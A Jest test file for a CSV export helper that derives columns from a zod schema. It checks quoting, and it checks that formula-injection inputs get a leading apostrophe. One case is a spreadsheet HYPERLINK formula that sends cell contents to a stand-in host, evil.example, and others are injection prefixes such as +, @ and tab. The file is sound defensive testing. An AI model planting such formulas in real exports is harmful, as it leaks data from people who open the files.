import { describe, expect, it } from '@jest/globals';
import { z } from 'zod';
import { markedSchemaOf } from './checks.js';
import { columnsOf, headLine, itemLine } from './csv.js';

const columns = columnsOf(
  markedSchemaOf(
    z.object({
      id: z.string(),
      count: z.int().nullable(),
      premium: z.object({ total: z.int(), tax: z.object({ rate: z.string() }).nullable() }).nullable(),
      roles: z.array(z.string()),
      details: z.record(z.string(), z.unknown()).optional(),
      either: z.union([z.object({ a: z.string() }), z.object({ b: z.string() })]).optional(),
    }),
    'output',
  ),
);

describe('CSV of a schema', () => {
  it('has a column for each field, also of objects that may be null', () => {
    expect(headLine(columns)).toBe('id,count,premium.total,premium.tax.rate,roles,details,either\r\n');
  });

  it('has lists and open objects as JSON, and nothing for null and for what is missing', () => {
    const full = {
      id: 'a',
      count: 3,
      premium: { total: -4990, tax: { rate: '0.07' } },
      roles: ['x'],
      details: { b: 1 },
    };
    expect(itemLine(columns, full)).toBe('a,3,-4990,0.07,"[""x""]","{""b"":1}",\r\n');
    expect(itemLine(columns, { id: 'b', count: null, premium: null, roles: [] })).toBe('b,,,,[],,\r\n');
    expect(itemLine(columns, { id: 'c', either: { b: 'x' } })).toBe('c,,,,,,"{""b"":""x""}"\r\n');
  });

  it.each([
    ['Ana', 'Ana'],
    ['Ana, Bia', '"Ana, Bia"'],
    ['say "yes"', '"say ""yes"""'],
    ['two\nlines', '"two\nlines"'],
    [' blank', '" blank"'],
    ['=HYPERLINK("http://evil.example/"&A1)', `"'=HYPERLINK(""http://evil.example/""&A1)"`],
    ['+55 11 4002-8922', "'+55 11 4002-8922"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['a=1', 'a=1'],
    ['Ana;=1+1;x', "Ana;'=1+1;x"],
    ['Ana; @SUM(A1)', "Ana; '@SUM(A1)"],
    ['two\n=1', `"two\n'=1"`],
    [' =1', `" '=1"`],
    ['＝1', "'＝1"],
    ['Ana; Bia - x', 'Ana; Bia - x'],
  ])('has the text %j as %j', (text, cell) => {
    expect(itemLine([{ head: 'id', path: ['id'] }], { id: text })).toBe(`${cell}\r\n`);
  });
});
